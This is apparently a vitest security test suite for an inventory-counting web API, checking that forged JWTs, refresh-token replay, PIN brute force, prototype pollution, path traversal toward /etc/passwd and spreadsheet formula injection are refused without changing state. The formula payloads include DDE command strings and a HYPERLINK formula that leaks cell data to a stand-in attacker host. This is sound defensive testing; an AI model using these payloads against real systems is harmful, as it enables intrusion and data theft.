/**
 * Security probes, end to end through the HTTP API (issue #7): each attack is refused with the
 * right status AND leaves the state as it was (checked before and after). The single-rule tests
 * live beside their modules (test/api/auth.test.ts, evidence.test.ts, users-rbac.test.ts,
 * reports.test.ts); this file is the one place a reviewer reads what an attacker on the LAN can
 * try against a running server and what comes of it:
 * token tampering, refresh replay (also raced), PIN brute force and password spraying, oversized
 * and malformed bodies, prototype pollution, path traversal on photo ids, CSV/XLSX formula
 * injection from a phone into a supervisor's export.
 */
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import jwt from 'jsonwebtoken';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { TokenPair } from '@stockverify/shared';
import { claim, countRecord, createSession, seedCounting, sync } from '../support/counting-fixture';
import { startTestApp, type TestApp } from '../support/test-app';

let t: TestApp;
let admin: Awaited<ReturnType<TestApp['userWithRole']>>;
let supervisor: Awaited<ReturnType<TestApp['userWithRole']>>;
let staff: Awaited<ReturnType<TestApp['userWithRole']>>;
let sessionId: string;
let fence: number;

beforeAll(async () => {
  t = await startTestApp();
  await seedCounting(t);
  admin = await t.userWithRole('admin', 'probe-admin');
  supervisor = await t.userWithRole('supervisor', 'probe-sup');
  staff = await t.userWithRole('staff', 'probe-staff', '4821');
  sessionId = (await createSession(t, supervisor.token)).id;
  const held = await claim(t, staff.token, sessionId, 'A-01');
  expect(held.status).toBe(200);
  fence = held.body.data.fencing_token;
});

afterAll(async () => {
  await t?.close();
});

/** What an attack could change: users, lines, conflicts, unknown items, refresh tokens in use. */
async function snapshot() {
  const users = await t.store.users.list({ page: 1, page_size: 500 });
  const lines = await t.store.lines.list(sessionId, { page: 1, page_size: 500 });
  const conflicts = await t.store.conflicts.list({ page: 1, page_size: 500, session: sessionId });
  return {
    users: users.items.map((u) => [u.username, u.role, u.active, u.password_hash]).sort(),
    lines: lines.items.map((l) => l.op_id).sort(),
    conflicts: conflicts.total,
  };
}

/** Runs `attack` and checks that nothing it could have changed did. */
async function unchanged(attack: () => Promise<void>): Promise<void> {
  const before = await snapshot();
  await attack();
  expect(await snapshot()).toEqual(before);
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

describe('token tampering', () => {
  it('a staff token made to say admin, by any trick, creates no user', async () => {
    const [header, payload, signature] = staff.token.split('.') as [string, string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<
      string,
      unknown
    >;
    const asAdmin = { ...claims, role: 'admin' };
    const forged = [
      // Payload altered, signature kept.
      `${header}.${b64(asAdmin)}.${signature}`,
      // Signature stripped, alg none (and its casing variants).
      `${b64({ alg: 'none', typ: 'JWT' })}.${b64(asAdmin)}.`,
      `${b64({ alg: 'NONE', typ: 'JWT' })}.${b64(asAdmin)}.`,
      // The right secret, but an algorithm not on the allow-list.
      jwt.sign(asAdmin, t.settings.jwtSecret, { algorithm: 'HS512', noTimestamp: true }),
      // Signed with a guessed secret.
      jwt.sign(asAdmin, 'secret', { algorithm: 'HS256', noTimestamp: true }),
      // The admin's own signature on the staff payload.
      `${header}.${payload}.${admin.token.split('.')[2]}`,
      // A refresh token is not an access token.
      staff.tokens.refresh_token,
    ];
    await unchanged(async () => {
      for (const token of forged) {
        const res = await t.request('POST', '/api/users', {
          token,
          body: {
            username: `evil-${randomUUID().slice(0, 6)}`,
            full_name: 'Evil',
            role: 'admin',
            password: 'evil-password-123',
          },
        });
        expect(res.status, token.slice(0, 40)).toBe(401);
        expect(res.body.success).toBe(false);
      }
    });
  });

  it('a tampered or refresh token stores no count line through sync', async () => {
    const [header, payload] = staff.token.split('.') as [string, string, string];
    await unchanged(async () => {
      for (const token of [`${header}.${payload}.AAAA`, staff.tokens.refresh_token]) {
        const res = await sync(t, token, [countRecord(sessionId, 'A-01', 'ITM-A', fence)]);
        expect(res.status).toBe(401);
      }
    });
  });

  it('the valid staff token still cannot do admin work (403), and its role claim is not trusted', async () => {
    await unchanged(async () => {
      const res = await t.request('POST', '/api/users', {
        token: staff.token,
        body: { username: 'evil-staff', full_name: 'Evil', role: 'admin', password: 'evil-pw-123' },
      });
      expect(res.status).toBe(403);
    });
  });
});

describe('refresh tokens', () => {
  it('a stolen, already used refresh token gets nothing and ends the family for everyone', async () => {
    const victim = await t.userWithRole('staff');
    const stolen = victim.tokens.refresh_token;
    const rotated = await t.request<TokenPair>('POST', '/api/auth/refresh', {
      body: { refresh_token: stolen },
    });
    expect(rotated.status).toBe(200);
    const replay = await t.request('POST', '/api/auth/refresh', {
      body: { refresh_token: stolen },
    });
    expect(replay.status).toBe(401);
    // The family is revoked: the victim's fresh token is refused too (both must sign in again).
    const next = await t.request('POST', '/api/auth/refresh', {
      body: { refresh_token: rotated.body.data.refresh_token },
    });
    expect(next.status).toBe(401);
  });

  it('the same refresh token raced ten times at once yields at most one new pair, then none', async () => {
    const victim = await t.userWithRole('staff');
    const token = victim.tokens.refresh_token;
    const answers = await Promise.all(
      Array.from({ length: 10 }, () =>
        t.request<TokenPair>('POST', '/api/auth/refresh', { body: { refresh_token: token } }),
      ),
    );
    const won = answers.filter((a) => a.status === 200);
    expect(won.length).toBeLessThanOrEqual(1);
    expect(answers.filter((a) => a.status !== 200).map((a) => a.status)).toEqual(
      Array(10 - won.length).fill(401),
    );
    // The losers were replays: whatever pair the winner got belongs to a revoked family.
    for (const w of won) {
      const after = await t.request('POST', '/api/auth/refresh', {
        body: { refresh_token: w.body.data.refresh_token },
      });
      expect(after.status).toBe(401);
    }
  });
});

describe('PIN brute force and password spraying', () => {
  it('guessing a PIN locks the account (423) before the right PIN can be found; no token issued', async () => {
    const app = await startTestApp();
    try {
      const victim = await app.userWithRole('staff', 'pin-victim', '7391');
      const answers: number[] = [];
      let wrongPinCode: string | undefined;
      for (let guess = 0; guess < 8; guess++) {
        const res = await app.request<TokenPair>('POST', '/api/auth/pin-login', {
          body: { username: 'pin-victim', pin: String(1000 + guess) },
        });
        answers.push(res.status);
        wrongPinCode ??= res.body.error?.code;
        expect(res.body.data).toBeNull();
      }
      expect(answers.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
      expect(answers.slice(5)).toEqual([423, 423, 423]);
      // Even the right PIN is refused while locked, with Retry-After and no tokens.
      const right = await app.request<TokenPair>('POST', '/api/auth/pin-login', {
        body: { username: 'pin-victim', pin: victim.pin },
      });
      expect(right.status).toBe(423);
      expect(Number(right.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(right.body.data).toBeNull();
      // An unknown user answers like a wrong PIN: no account enumeration.
      const ghost = await app.request('POST', '/api/auth/pin-login', {
        body: { username: 'no-such-user', pin: '1234' },
      });
      expect(ghost.status).toBe(401);
      expect(ghost.body.error?.code).toBe(wrongPinCode);
    } finally {
      await app.close();
    }
  });

  it('one address spraying PINs over many accounts is stopped per IP (429), not per account', async () => {
    const app = await startTestApp({ settings: { loginRateLimit: 12 } });
    try {
      for (let n = 0; n < 4; n++) await app.userWithRole('staff', `spray-${n}`, '5555');
      const statuses: number[] = [];
      // Three guesses per account: no account reaches its own lockout (5).
      for (let round = 0; round < 4; round++) {
        for (let n = 0; n < 4; n++) {
          const res = await app.request('POST', '/api/auth/pin-login', {
            body: { username: `spray-${n}`, pin: String(1000 + round) },
          });
          statuses.push(res.status);
          if (res.status === 429) expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
        }
      }
      expect(statuses.slice(0, 12)).toEqual(Array(12).fill(401));
      expect(statuses.slice(12)).toEqual(Array(4).fill(429));
      // While limited, the right PIN from that address is refused as well.
      const right = await app.request('POST', '/api/auth/pin-login', {
        body: { username: 'spray-0', pin: '5555' },
      });
      expect(right.status).toBe(429);
    } finally {
      await app.close();
    }
  });
});

describe('bodies', () => {
  it('an oversized sync batch or count is 413 and stores nothing', async () => {
    await unchanged(async () => {
      const padding = 'x'.repeat(400);
      const records = Array.from({ length: 14_000 }, () =>
        countRecord(sessionId, 'A-01', 'ITM-A', fence, { remark: padding }),
      );
      const big = await sync(t, staff.token, records);
      expect(big.status).toBe(413);
      expect(big.body.error?.code).toBe('PAYLOAD_TOO_LARGE');
      const online = await t.request('POST', `/api/sessions/${sessionId}/count-lines`, {
        token: staff.token,
        body: countRecord(sessionId, 'A-01', 'ITM-A', fence, { remark: 'x'.repeat(200_000) }),
      });
      expect(online.status).toBe(413);
      // 501 records fit the byte limit but not the batch limit.
      const many = await sync(
        t,
        staff.token,
        Array.from({ length: 501 }, () => countRecord(sessionId, 'A-01', 'ITM-A', fence)),
      );
      expect(many.status).toBe(400);
      expect(many.body.error?.code).toBe('VALIDATION_FAILED');
    });
  });

  it('malformed JSON is 400 MALFORMED_JSON on every write path and stores nothing', async () => {
    await unchanged(async () => {
      for (const [url, headers] of [
        ['/api/sync/batch', { 'idempotency-key': `probe-${randomUUID()}` }],
        [`/api/sessions/${sessionId}/count-lines`, {}],
        ['/api/users', {}],
        ['/api/auth/login', {}],
      ] as const) {
        for (const rawBody of ['{"records": [', "{'a': 1}", '{"a":1}garbage', '\u0000']) {
          const res = await t.request('POST', url, {
            token: url === '/api/users' ? admin.token : staff.token,
            rawBody,
            headers: { 'content-type': 'application/json', ...headers },
          });
          expect(res.status, `${url} ${JSON.stringify(rawBody)}`).toBe(400);
          expect(res.body.error?.code).toBe('MALFORMED_JSON');
        }
      }
    });
  });

  it('__proto__ and constructor keys neither pollute the server nor grant a role', async () => {
    await unchanged(async () => {
      const res = await t.request('POST', '/api/users', {
        token: admin.token,
        rawBody:
          '{"username":"proto-user","full_name":"P","role":"staff","password":"proto-pass-123","__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"polluted":true}}}',
        headers: { 'content-type': 'application/json' },
      });
      // Unknown keys are refused by the strict schema; nothing is created.
      expect(res.status).toBe(400);
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(({} as Record<string, unknown>).role).toBeUndefined();
    });
  });
});

describe('path traversal on photo ids', () => {
  it('encoded, double-encoded and absolute ids never reach the store or a file', async () => {
    const get = vi.spyOn(t.store.photos, 'get');
    try {
      for (const id of [
        '..%2F..%2Fetc%2Fpasswd',
        '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
        '%2Fetc%2Fpasswd',
        '....%2F%2F....%2F%2Fetc%2Fpasswd',
        '%c0%ae%c0%ae%2Fetc%2Fpasswd',
        'file%3A%2F%2F%2Fetc%2Fpasswd',
      ]) {
        const res = await fetch(`${t.baseUrl}/api/photos/${id}`, {
          headers: { authorization: `Bearer ${staff.token}` },
        });
        const text = await res.text();
        expect([400, 404], id).toContain(res.status);
        expect(text).not.toContain('root:');
        expect(res.headers.get('content-type')).toMatch(/application\/json/);
      }
      expect(get).not.toHaveBeenCalled();
    } finally {
      get.mockRestore();
    }
  });

  it('malformed percent-encoding in any path is a 400 envelope, not a 500', async () => {
    // Found by this suite: the router's URIError fell through to the 500 handler.
    for (const url of [
      '/api/photos/%c0%ae%c0%ae%2Fetc%2Fpasswd',
      '/api/photos/%E0%A4%A',
      `/api/sessions/${sessionId}/racks/%ff/claim`,
      '/api/items/barcode/%c0%ae',
      '/api/items/%ff%fe',
    ]) {
      const res = await fetch(t.baseUrl + url, {
        method: url.endsWith('/claim') ? 'POST' : 'GET',
        headers: { authorization: `Bearer ${staff.token}`, 'content-type': 'application/json' },
        body: url.endsWith('/claim') ? '{}' : undefined,
      });
      expect([400, 404], url).toContain(res.status);
      expect(((await res.json()) as { success: boolean }).success).toBe(false);
    }
  });

  it('a count line cannot carry a path as a photo id (it would be a reference to a file)', async () => {
    // Found by this suite: photo ids in records were any string; now what POST /photos returns.
    await unchanged(async () => {
      for (const photo of ['../../../etc/passwd', '..\\..\\win.ini', '/etc/passwd', '%2e%2e%2f']) {
        const res = await sync(t, staff.token, [
          countRecord(sessionId, 'A-01', 'ITM-A', fence, { photo_ids: [photo] }),
        ]);
        expect(res.status).toBe(200);
        expect(res.body.data.results[0]).toMatchObject({
          status: 'ERROR',
          code: 'VALIDATION_FAILED',
        });
        expect(res.body.data.results[0]!.details?.[0]?.path).toMatch(/photo_ids\.0$/);
      }
    });
  });
});

describe('formula injection from a phone into a supervisor’s export', () => {
  const PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://attacker.invalid/?leak="&A1,"open")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
  ];

  it('reasons typed on a phone come out of CSV and XLSX as text, never as formulas', async () => {
    const phone = await t.userWithRole('staff');
    const session = await createSession(t, supervisor.token, { name: '=HYPERLINK("x")' });
    const held = await claim(t, phone.token, session.id, 'A-02');
    expect(held.status).toBe(200);
    const records = PAYLOADS.map((reason, n) =>
      countRecord(session.id, 'A-02', 'ITM-C', held.body.data.fencing_token, {
        counted_qty: 20 + n,
        variance_reason: reason,
      }),
    );
    const stored = await sync(t, phone.token, records);
    expect(stored.body.data.results.map((r) => r.status)).toEqual(PAYLOADS.map(() => 'OK'));

    const body = { type: 'variance', filters: { session: session.id } };
    const csv = await fetch(`${t.baseUrl}/api/reports/export/csv`, {
      method: 'POST',
      headers: { authorization: `Bearer ${supervisor.token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect(csv.status).toBe(200);
    const cells = parseCsv(await csv.text()).flat();
    const xlsx = await fetch(`${t.baseUrl}/api/reports/export/xlsx`, {
      method: 'POST',
      headers: { authorization: `Bearer ${supervisor.token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const xlsxCells: unknown[] = [];
    let formulas = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas++;
          xlsxCells.push(cell.value);
        }),
      ),
    );
    expect(formulas).toBe(0);
    const files: Array<[string, unknown[]]> = [
      ['csv', cells],
      ['xlsx', xlsxCells],
    ];
    for (const [name, all] of files) {
      const texts = all.filter((c): c is string => typeof c === 'string');
      // The payloads are there, every one behind a leading quote.
      const reasons = texts.find((c) => c.includes('cmd|'));
      expect(reasons, name).toBeDefined();
      // No text cell a spreadsheet would evaluate: numbers are numbers, the rest is quoted.
      const dangerous = texts.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
      expect(dangerous, name).toEqual([]);
      expect(
        texts.some((c) => c.startsWith("'=HYPERLINK")),
        `${name}: session name`,
      ).toBe(true);
    }
  });
});

/** RFC 4180 (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}
